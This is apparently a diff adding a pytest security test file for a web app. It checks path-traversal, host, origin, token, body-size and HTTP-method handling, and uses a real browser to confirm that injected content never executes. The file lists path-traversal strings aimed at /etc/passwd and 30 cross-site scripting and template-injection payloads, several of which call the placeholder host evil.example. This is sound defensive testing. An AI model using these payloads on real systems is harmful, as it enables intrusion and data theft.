@@ -1,0 +1,324 @@
+"""The web list of trust.md, tried on every address that the server has.
+
+Source: trust.md, "Bad inputs", "Web", "Page" and "Decks".
+"""
+
+from __future__ import annotations
+
+import asyncio
+import shutil
+from collections.abc import Callable, Iterator, MutableMapping
+from dataclasses import replace
+from http.client import HTTPConnection
+from pathlib import Path
+from typing import Any
+
+import pptx
+import pytest
+from starlette.testclient import TestClient
+
+from orchestrator.deck.limits import DEFAULT_LIMITS
+from orchestrator.web import security
+from orchestrator.web.app import application
+from orchestrator.web.security import MAX_HEADER_BYTES, Security
+from orchestrator.web.site import Site
+from tests.web.conftest import Served
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+QUIET = ("--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run")
+
+OWN = {
+    "session": "s1",
+    "agent": "skeptic",
+    "path": "shared/deck-content.md",
+    "number": "1",
+    "deck": "0" * 64,
+    "memory": "m000000000000",
+    "goal": "g000000000000",
+}
+"""A value of each path parameter that is in order."""
+
+OUTSIDE = (
+    "../../../../../../etc/passwd",
+    "..",
+    "/etc/passwd",
+    "..\\..\\etc\\passwd",
+    "．．/．．/etc/passwd",
+    "....//....//etc/passwd",
+    "s1\n",
+    "s1\0",
+    "-rf",
+    "x" * 65,
+)
+
+
+def once(name: str) -> str:
+    return "".join(f"%{byte:02x}" for byte in name.encode())
+
+
+def twice(name: str) -> str:
+    return once(name).replace("%", "%25")
+
+
+def addresses(client: TestClient) -> Iterator[tuple[str, str]]:
+    """Method and path template of every route that is described, and of the pages."""
+    for path, methods in client.get("/api/openapi.json").json()["paths"].items():
+        for method in methods:
+            yield method.upper(), path
+    for path in ("/", "/new", "/room/{session}"):
+        yield "GET", path
+
+
+def filled(address: str, **values: str) -> str:
+    for name, value in {**OWN, **values}.items():
+        address = address.replace(f"{{{name}}}", value)
+    return address
+
+
+@pytest.mark.parametrize("encoded", [once, twice])
+def test_no_path_parameter_leads_out_of_its_folder(
+    api: TestClient, session: str, encoded: Callable[[str], str]
+) -> None:
+    for method, path in addresses(api):
+        for name in (name for name in OWN if f"{{{name}}}" in path):
+            for outside in OUTSIDE:
+                answer = api.request(method, filled(path, **{name: encoded(outside)}))
+                assert 400 <= answer.status_code < 500, (method, path, outside)
+                assert "root:" not in answer.text
+    assert api.get(f"/api/sessions/{session}/verify").json()["valid"]
+
+
+@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "evil.example:8716", "", "[::2]"])
+def test_a_foreign_name_reaches_nothing(api: TestClient, host: str) -> None:
+    for method, path in addresses(api):
+        assert api.request(method, filled(path), headers={"host": host}).status_code == 421, path
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"origin": "http://evil.example"},
+        {"origin": "null"},
+        {"origin": "http://127.0.0.1:1"},
+        {"origin": "file://"},
+        {"sec-fetch-site": "cross-site"},
+        {"sec-fetch-site": "same-site"},
+    ],
+)
+def test_a_foreign_page_changes_nothing(api: TestClient, headers: dict[str, str]) -> None:
+    for method, path in addresses(api):
+        if method != "GET":
+            assert api.request(method, filled(path), headers=headers).status_code == 403, path
+
+
+def test_without_the_token_nothing_is_shown(site: Site) -> None:
+    with TestClient(application(replace(site, token="t" * 43)), base_url="http://127.0.0.1") as client:
+        own = {"authorization": "Bearer " + "t" * 43}
+        described = client.get("/api/openapi.json", headers=own).json()["paths"]
+        for path, methods in described.items():
+            for method in methods:
+                for shown in (
+                    {},
+                    {"authorization": "Bearer t"},
+                    {"cookie": "greenroom=t"},
+                    {"cookie": "=;;"},
+                ):
+                    answer = client.request(method, filled(path), headers=shown)
+                    assert answer.status_code == 401, (method, path)
+
+
+def test_no_other_method_is_taken(api: TestClient) -> None:
+    known: dict[str, set[str]] = {}
+    for method, path in addresses(api):
+        known.setdefault(filled(path), set()).add(method)
+    for path, methods in known.items():
+        for method in {"GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "PROPFIND"} - methods:
+            if not any(method in other for one, other in known.items() if one == path):
+                assert api.request(method, path).status_code == 405, (method, path)
+
+
+def test_a_header_beyond_the_bound_is_refused(serve: Callable[..., Served]) -> None:
+    sender = HTTPConnection(serve().url.removeprefix("http://"), timeout=30)
+    sender.request("GET", "/api/health", headers={"x-long": "x" * 2 * MAX_HEADER_BYTES})
+    assert sender.getresponse().status in (400, 431)
+    sender.close()
+
+
+@pytest.mark.parametrize("path", ["/api/goals", "/api/decks"])
+def test_a_body_whose_length_is_not_told_is_bounded_all_the_same(
+    api: TestClient, monkeypatch: pytest.MonkeyPatch, path: str
+) -> None:
+    monkeypatch.setattr(security, "MAX_BODY_BYTES", 10_000)
+    kind = "application/json" if path == "/api/goals" else "multipart/form-data; boundary=x"
+    start = b"[" if path == "/api/goals" else b'--x\r\ncontent-disposition: form-data; name="deck"\r\n\r\n'
+    pieces = (start, *[b" " * 1000] * 20)
+    answer = api.post(path, content=iter(pieces), headers={"content-type": kind})
+    assert (answer.status_code, answer.json()["code"]) == (413, "request_entity_too_large")
+
+
+@pytest.mark.parametrize("length", ["-1", "1e3", "²", "99999999999999999999", "0x10"])
+def test_a_length_that_is_none_is_refused(api: TestClient, length: str) -> None:
+    answer = api.post("/api/goals", headers={b"content-length": length.encode("utf-8")}, content=b"")
+    assert answer.status_code in (400, 413)
+
+
+def test_a_body_that_trickles_is_given_up(site: Site) -> None:
+    app = Security(application(site), site, body_within_s=0.2)
+    sent: list[MutableMapping[str, Any]] = []
+
+    async def receive() -> MutableMapping[str, Any]:
+        await asyncio.sleep(0.02)
+        return {"type": "http.request", "body": b" ", "more_body": True}
+
+    async def send(message: MutableMapping[str, Any]) -> None:
+        sent.append(message)
+
+    headers = {"host": "127.0.0.1", "content-type": "application/json", "transfer-encoding": "chunked"}
+    scope = {
+        "type": "http",
+        "method": "POST",
+        "path": "/api/goals",
+        "raw_path": b"/api/goals",
+        "query_string": b"",
+        "root_path": "",
+        "scheme": "http",
+        "http_version": "1.1",
+        "server": ("127.0.0.1", 80),
+        "client": ("127.0.0.1", 1),
+        "headers": [(name.encode(), value.encode()) for name, value in headers.items()],
+    }
+    asyncio.run(app(scope, receive, send))
+    assert sent[0]["status"] == 408
+    assert (b"connection", b"close") in sent[0]["headers"]
+
+
+@pytest.mark.slow
+def test_a_hostile_deck_gets_one_clear_problem_and_leaves_nothing(
+    api: TestClient, site: Site, shared: Path
+) -> None:
+    assert DEFAULT_LIMITS.wall_s <= 10
+    taken = 0
+    for file in sorted((shared / "hostile").iterdir()):
+        answer = api.post("/api/decks", files={"deck": (file.name, file.read_bytes())})
+        if answer.status_code == 201:
+            taken += 1
+            continue
+        assert answer.status_code == 422, file.name
+        detail = answer.json()["detail"]
+        assert detail.startswith(file.name), file.name
+        assert "\n" not in detail
+        assert "/tmp" not in detail
+        assert "Traceback" not in detail
+    folder = Path(site.uploads._folder.name)
+    assert taken
+    assert len(list(folder.iterdir())) <= min(taken, 20)
+
+
+# ------------------------------------------------------------------ in a real browser
+
+RUN = "window.__ran=1;fetch('http://evil.example/ran')"
+SCRIPTS = (
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script type=module>import 'http://evil.example/x.js'</script>",
+    f'<img src=x onerror="{RUN}">',
+    "<img src=http://evil.example/pixel>",
+    f'"><img src=x onerror="{RUN}">',
+    f'\'><img src=x onerror="{RUN}">',
+    f'" onmouseover="{RUN}" x="',
+    f'" autofocus onfocus="{RUN}" x="',
+    f'<svg onload="{RUN}">',
+    f"<svg><script>{RUN}</script></svg>",
+    '<svg><use href="http://evil.example/x.svg#a"></use></svg>',
+    '<iframe src="http://evil.example"></iframe>',
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f'<a href="javascript:{RUN}">press</a>',
+    f"[press](javascript:{RUN})",
+    "![picture](http://evil.example/pixel)",
+    f'<details open ontoggle="{RUN}">',
+    f'<body onload="{RUN}">',
+    f'<input autofocus onfocus="{RUN}">',
+    f'<video><source onerror="{RUN}"></video>',
+    '<link rel=stylesheet href="http://evil.example/x.css">',
+    "<style>@import 'http://evil.example/x.css';</style>",
+    '<meta http-equiv=refresh content="0;url=http://evil.example">',
+    '<base href="http://evil.example/">',
+    '<object data="http://evil.example/x"></object>',
+    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
+)
+
+
+def deck_of_scripts(file: Path) -> Path:
+    """A slide for each of them, as title and line: PowerPoint, because Markdown takes tags for its own."""
+    made = pptx.Presentation()
+    for number, script in enumerate(SCRIPTS):
+        slide = made.slides.add_slide(made.slide_layouts[1])
+        slide.shapes.title.text = script
+        slide.placeholders[1].text = f"{script}\nRevenue {script} is EUR {number} million in 2026"
+    made.save(str(file))
+    return file
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(CHROMIUM is None, reason="NO CHROMIUM: injection into the pages is not tested")
+def test_nothing_that_a_session_holds_runs_in_a_page(serve: Callable[..., Served], tmp_path: Path) -> None:
+    sync_api = pytest.importorskip("playwright.sync_api", reason="NO PLAYWRIGHT: injection is not tested")
+    assert len(SCRIPTS) == 30
+    served = serve()
+    deck = deck_of_scripts(tmp_path / "deck.pptx")
+    with sync_api.sync_playwright() as playwright, served.client() as client:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(QUIET))
+        page = browser.new_page()
+        outside: list[str] = []
+        blocked: list[str] = []
+
+        def route(one: Any) -> None:
+            if one.request.url.startswith((served.url + "/", "data:", "blob:")):
+                one.continue_()
+            else:
+                outside.append(one.request.url)
+                one.abort()
+
+        page.route("**/*", route)
+        page.on("dialog", lambda dialog: blocked.append(dialog.message))
+        page.on(
+            "console", lambda said: blocked.append(said.text) if "Content Security" in said.text else None
+        )
+
+        page.goto(f"{served.url}/new")
+        page.set_input_files("input[type=file]", deck)
+        page.wait_for_selector("#slides > *")
+        shown = page.inner_text("#understood")
+        assert [script for script in SCRIPTS if script not in shown] == []
+        assert page.evaluate("window.__ran") is None
+
+        sent = client.post("/api/decks", files={"deck": (deck.name, deck.read_bytes())}).json()["deck"]
+        options = {"deck": sent, "id": "s1", "presenter": SCRIPTS[6][:80], "focus": SCRIPTS[:3]}
+        begun = client.post("/api/sessions", json=options)
+        assert begun.status_code == 201, begun.text
+        page.goto(f"{served.url}/room/s1")
+        page.wait_for_selector("#panel li")
+        for number, script in enumerate(SCRIPTS, start=1):
+            client.put("/api/sessions/s1/slide", json={"slide": number})
+            said = {"text": f"{script} is 4 million", "speaker": script}
+            assert client.post("/api/sessions/s1/segments", json=said).status_code == 200
+            if number % 10 == 0:
+                page.wait_for_function(
+                    "number => document.querySelector('#slide-name').textContent.includes(number)",
+                    arg=str(number),
+                )
+        client.post("/api/sessions/s1/ask", json={})
+        page.wait_for_selector("#question:not([hidden])")
+        for script in SCRIPTS[:6]:
+            client.post("/api/sessions/s1/answer", json={"text": f"{script} {SCRIPTS[7]}"})
+            client.post("/api/sessions/s1/ask", json={})
+        page.wait_for_function("text => document.body.innerText.includes(text)", arg=SCRIPTS[-1][:7])
+        assert page.evaluate("window.__ran") is None
+        assert (
+            page.evaluate("document.querySelectorAll('iframe, object, base, meta[http-equiv]').length") == 0
+        )
+        browser.close()
+    assert (outside, blocked) == ([], [])
